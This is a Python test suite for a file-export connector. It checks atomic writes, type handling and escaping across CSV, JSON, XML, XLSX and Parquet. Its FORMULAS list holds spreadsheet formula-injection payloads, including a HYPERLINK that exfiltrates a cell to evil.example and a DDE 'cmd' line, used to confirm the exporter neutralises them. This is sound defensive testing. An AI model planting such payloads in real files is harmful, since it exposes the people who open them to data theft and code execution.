"""FileExport: CSV, JSON, JSONL, XML, XLSX and Parquet files, written whole, swapped in at once."""

from __future__ import annotations

import csv
import json
import math
from datetime import date
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from connectors.base import TerminalConnectorError
from connectors.file_export import FileExport

COLUMNS = ["sku", "title", "price", "stock", "active", "tags", "dims"]
ROWS: list[dict[str, Any]] = [
    {
        "sku": "A-1",
        "title": "Hex bolt, M6",
        "price": 1.5,
        "stock": 10,
        "active": True,
        "tags": ["zinc", "m6"],
        "dims": {"l": 20},
    },
    {"sku": "A-2", "title": None, "price": 2.0, "stock": None, "active": False, "tags": []},
]


def _export(path: Path, batches: list[list[dict[str, Any]]], **options: Any) -> Any:
    types = options.pop("types", None)
    with FileExport(path=str(path), **options).open(
        columns=COLUMNS, key="sku", mode="replace", types=types
    ) as writer:
        for batch in batches:
            writer.write(batch)
        return writer.commit()


def test_csv_writes_the_columns_in_order_with_json_for_lists_and_dicts(tmp_path: Path) -> None:
    path = tmp_path / "out" / "products.csv"  # the folder is created

    result = _export(path, [ROWS[:1], ROWS[1:]])

    assert (result.rows, result.location) == (2, str(path))
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows == [
        COLUMNS,
        ["A-1", "Hex bolt, M6", "1.5", "10", "true", '["zinc", "m6"]', '{"l": 20}'],
        ["A-2", "", "2.0", "", "false", "[]", ""],
    ]
    assert path.stat().st_mode & 0o777 == 0o644  # readable by whoever picks the file up


def test_jsonl_keeps_json_values_and_turns_nan_into_null(tmp_path: Path) -> None:
    path = tmp_path / "products.jsonl"
    odd = {"sku": "A-3", "price": math.nan, "dims": {"added": date(2024, 3, 1)}}

    _export(path, [ROWS, [odd]])

    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert lines[0] == ROWS[0]
    assert lines[1] == {**dict.fromkeys(COLUMNS), **ROWS[1]}
    assert lines[2]["price"] is None and lines[2]["dims"] == {"added": "2024-03-01"}
    assert list(lines[2]) == COLUMNS


def test_parquet_infers_types_from_the_first_batch_and_accepts_nulls_later(
    tmp_path: Path,
) -> None:
    path = tmp_path / "products.parquet"
    later = {"sku": "A-3", "title": "Nut", "price": None, "stock": 4, "active": None, "tags": None}

    result = _export(path, [ROWS, [later]])

    table = pq.read_table(path)
    assert result.rows == 3
    assert table.schema.names == COLUMNS
    types = table.schema.types
    assert types[:5] == [pa.string(), pa.string(), pa.float64(), pa.int64(), pa.bool_()]
    assert pa.types.is_list(types[5]) and types[5].value_type == pa.string()
    assert types[6] == pa.string()  # dicts as JSON text
    assert table.column("stock").to_pylist() == [10, None, 4]
    assert table.column("tags").to_pylist() == [["zinc", "m6"], [], None]
    assert table.column("dims").to_pylist() == ['{"l": 20}', None, None]


def test_parquet_uses_declared_types_and_types_all_null_columns_as_text(tmp_path: Path) -> None:
    path = tmp_path / "products.parquet"
    first = [{"sku": "A-1", "price": None, "stock": None, "title": None}]
    second = [{"sku": "A-2", "price": 3, "stock": 7, "title": "Nut"}]

    _export(path, [first, second], types={"price": "number", "stock": "integer"})

    table = pq.read_table(path)
    assert table.schema.field("price").type == pa.float64()
    assert table.schema.field("stock").type == pa.int64()
    assert table.schema.field("title").type == pa.string()  # nothing to infer from: text
    assert table.column("price").to_pylist() == [None, 3.0]


def test_a_value_that_no_longer_fits_the_parquet_type_fails_and_leaves_the_file(
    tmp_path: Path,
) -> None:
    path = tmp_path / "products.parquet"
    _export(path, [ROWS])
    before = path.read_bytes()

    with pytest.raises(TerminalConnectorError) as failure:
        _export(path, [ROWS, [{"sku": "A-9", "stock": "lots"}]])

    assert "'stock'" in str(failure.value) and "`types`" in str(failure.value)
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["products.parquet"]


def test_empty_exports_still_carry_their_columns(tmp_path: Path) -> None:
    _export(tmp_path / "empty.csv", [])
    _export(tmp_path / "empty.parquet", [])

    assert (tmp_path / "empty.csv").read_text().splitlines() == [",".join(COLUMNS)]
    assert pq.read_table(tmp_path / "empty.parquet").schema.names == COLUMNS


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
def test_readers_see_the_old_file_until_commit_then_the_new_one(
    tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"products{suffix}"
    _export(path, [ROWS[:1]])
    before = path.read_bytes()

    with FileExport(path=str(path)).open(columns=COLUMNS, key="sku", mode="replace") as writer:
        writer.write(ROWS)
        assert path.read_bytes() == before
        writer.commit()

    assert path.read_bytes() != before
    assert [p.name for p in tmp_path.iterdir()] == [path.name]  # no temporary file left


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
def test_an_exception_or_a_missing_commit_leaves_the_file_as_it_was(
    tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"products{suffix}"
    _export(path, [ROWS[:1]])
    before = path.read_bytes()
    export = FileExport(path=str(path))

    with pytest.raises(RuntimeError), export.open(columns=COLUMNS, key="sku", mode="replace") as w:
        w.write(ROWS)
        raise RuntimeError("the store went away mid-export")
    with export.open(columns=COLUMNS, key="sku", mode="replace") as writer:
        writer.write(ROWS)  # and no commit()

    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == [path.name]
    with pytest.raises(TerminalConnectorError, match="aborted"):
        writer.write(ROWS)


@pytest.mark.parametrize("mode", ["append", "upsert"])
def test_files_support_replace_only(tmp_path: Path, mode: str) -> None:
    with pytest.raises(TerminalConnectorError, match="'replace'"):
        FileExport(path=str(tmp_path / "p.csv")).open(columns=COLUMNS, key="sku", mode=mode)  # type: ignore[arg-type]


def test_bad_arguments_are_refused_before_anything_is_written(tmp_path: Path) -> None:
    with pytest.raises(TerminalConnectorError, match=r"\.parquet"):
        FileExport(path=str(tmp_path / "p.xls")).open(columns=COLUMNS, key="sku", mode="replace")
    with pytest.raises(TerminalConnectorError, match="key column 'id'"):
        FileExport(path=str(tmp_path / "p.csv")).open(columns=COLUMNS, key="id", mode="replace")
    with pytest.raises(TerminalConnectorError, match="unknown type 'money'"):
        FileExport(path=str(tmp_path / "p.csv"), types={"price": "money"}).open(
            columns=COLUMNS, key="sku", mode="replace"
        )
    export = FileExport(path=str(tmp_path / "p.csv"))
    with export.open(columns=COLUMNS, key="sku", mode="replace") as writer:
        with pytest.raises(TerminalConnectorError, match="colour"):
            writer.write([{"sku": "A-1", "colour": "red"}])
    assert list(tmp_path.iterdir()) == []


def test_the_format_field_overrides_the_extension(tmp_path: Path) -> None:
    path = tmp_path / "feed.txt"
    _export(path, [ROWS], format="jsonl")
    assert json.loads(path.read_text().splitlines()[0])["sku"] == "A-1"


def test_json_is_one_array_of_objects_across_batches(tmp_path: Path) -> None:
    path = tmp_path / "feed.json"
    _export(path, [ROWS[:1], [], ROWS[1:]])
    assert json.loads(path.read_text()) == [
        {**ROWS[0]},
        {**ROWS[1], "dims": None},
    ]
    empty = tmp_path / "empty.json"
    _export(empty, [])
    assert json.loads(empty.read_text()) == []


def test_xml_records_escape_their_text_and_skip_empty_values(tmp_path: Path) -> None:
    import xml.etree.ElementTree as ET

    path = tmp_path / "feed.xml"
    _export(path, [[{**ROWS[0], "title": "Bolt <M6> & nut"}], ROWS[1:]])
    records = ET.parse(path).getroot().findall("record")
    first = {f.get("name"): f.text for f in records[0]}
    assert first["title"] == "Bolt <M6> & nut"
    assert first["tags"] == '["zinc", "m6"]' and first["active"] == "true"
    assert "title" not in {f.get("name") for f in records[1]}


def test_xlsx_keeps_numbers_typed_and_reads_back_with_openpyxl(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = tmp_path / "feed.xlsx"
    _export(path, [ROWS, [{"sku": "A-3", "title": "bell\x07 character"}]])
    sheet = load_workbook(path, read_only=True).active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0] == COLUMNS
    assert rows[1][:5] == ["A-1", "Hex bolt, M6", 1.5, 10, True]
    assert rows[1][5] == '["zinc", "m6"]'
    assert rows[3][1] == "bell character"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading CR",
]


def test_csv_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas(tmp_path: Path) -> None:
    path = tmp_path / "feed.csv"
    rows = [{"sku": f"F-{i}", "title": text, "price": -1.5} for i, text in enumerate(FORMULAS)]
    rows.append({"sku": "F-9", "title": "-5", "price": "+3"})  # plain numbers stay numbers
    _export(path, [rows])
    with path.open(newline="", encoding="utf-8") as handle:
        read = list(csv.DictReader(handle))
    assert [r["title"] for r in read] == ["'" + text for text in FORMULAS] + ["-5"]
    assert [r["price"] for r in read] == ["-1.5"] * len(FORMULAS) + ["+3"]


def test_xlsx_exports_write_formula_looking_text_as_text_cells(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = tmp_path / "feed.xlsx"
    rows = [{"sku": f"F-{i}", "title": text, "price": -1.5} for i, text in enumerate(FORMULAS)]
    _export(path, [rows])
    sheet = load_workbook(path).active  # not read-only: cells keep their data type
    titles = [sheet.cell(row=i + 2, column=2) for i in range(len(FORMULAS))]
    assert [c.data_type for c in titles] == ["s"] * len(FORMULAS)
    assert [c.value for c in titles] == ["'" + t for t in FORMULAS]
    assert sheet.cell(row=2, column=3).value == -1.5


def test_xml_exports_drop_control_characters_so_the_file_parses(tmp_path: Path) -> None:
    import xml.etree.ElementTree as ET

    path = tmp_path / "feed.xml"
    _export(path, [[{"sku": "C-1", "title": "nul\x00 bell\x07 esc\x1b tab\tkept"}]])
    [record] = ET.parse(path).getroot().findall("record")
    assert {f.get("name"): f.text for f in record}["title"] == "nul bell esc tab\tkept"
